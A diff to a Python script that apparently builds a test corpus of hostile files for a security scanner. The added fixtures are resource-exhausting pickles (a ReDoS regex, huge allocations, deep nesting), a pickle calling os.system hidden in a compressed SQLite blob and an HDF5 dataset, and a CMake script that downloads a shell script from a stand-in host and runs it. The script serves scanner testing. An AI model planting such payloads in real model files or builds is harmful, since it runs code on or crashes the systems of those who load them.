@@ -4,8 +4,11 @@ that no file has, and numbers that compiled code takes for indices. A payload of
 
 import io
 import pickle
+import sqlite3
 import struct
+import zlib
 
+import h5py
 import joblib
 import numpy as np
 import scipy.sparse
@@ -71,6 +74,8 @@ def sizes():
     return {
         "count": apply(deque, count), "bounded": apply(deque, count, b"K\x00"), "repeat": apply(deque, apply(name("itertools", "repeat"), NONE)), "range": apply(name("collections", "Counter"), numbers),
         "list": apply(name("collections", "UserList"), numbers), "chained": apply(deque, apply(name("itertools", "islice"), count, whole(10**11))), "numbers": apply(name("array", "array"), text("d"), numbers),
+        "addresses": apply(deque, apply(name("ipaddress", "IPv6Network"), text("::/0"))), "pattern": apply(name("re", "_compile"), text("(a+)+$"), b"K\x00"), "deep": b"}" + b")" + b"\x85" * 20000 + NONE + b"s",
+        "made": apply(name("copyreg", "__newobj__"), name("builtins", "bytes"), whole(10**11)), "decimal": apply(INT, apply(name("decimal", "Decimal"), text("1e999999999"))),
         "array": apply(name("numpy", "ndarray"), huge, text("O")), "empty": apply(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), huge, data(b"O")),
         "masked": apply(name("numpy.ma.core", "_mareconstruct"), name("numpy.ma.core", "MaskedArray"), name("numpy", "ndarray"), huge, text("O")), "bytes": apply(name("numpy", "void"), whole(10**11)),
         "matrix": apply(name("scipy.sparse._csr", "csr_matrix"), tuple_of(whole(10**12), whole(10**12))), "lengths": apply(name("numpy", "ndarray"), tuple_of(whole(10**5), whole(10**6)), text("O")),
@@ -125,5 +130,14 @@ def make(corpus):
     for label, content in numbers():
         corpus.found("pickle-numbers", label, content, "a number that compiled code takes for an index")
     inner = proto(apply(name("os", "system"), text("true")))
+    database = sqlite3.connect(corpus.path("kept", "models.db", "malicious", "a column of models, each a pickle that is packed"))
+    database.execute("CREATE TABLE models (name TEXT, body BLOB)")
+    database.execute("INSERT INTO models VALUES ('clf', ?)", (zlib.compress(inner),))
+    database.commit()
+    database.close()
+    with h5py.File(corpus.path("hdf5", "hostile-object.h5", "malicious", "an object that a dataset keeps as a pickle"), "w") as file:
+        file.create_dataset("object", data=np.void(inner))
+    cmake = "project(x)\nfile(DOWNLOAD https://example.org/s.sh s.sh EXPECTED_HASH SHA256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855)\nexecute_process(COMMAND sh s.sh)\n"
+    corpus.folder("build-scripts", "cmake-runs", {"CMakeLists.txt": cmake}, "found", "a script by its digest, started")
     corpus.malicious("pickle-nested", "kept-bytes.pkl", proto(mapping(text("model"), data(inner))), "a pickle that is kept as bytes, for somebody to load")
     corpus.malicious("pickle-nested", "kept-text.pkl", b"\x80\x02" + apply(b"c_codecs\nencode\n", b"X" + struct.pack("<I", len(inner.decode("latin1").encode())) + inner.decode("latin1").encode(), text("latin1")) + b".", "the same, as protocol 2 writes bytes")
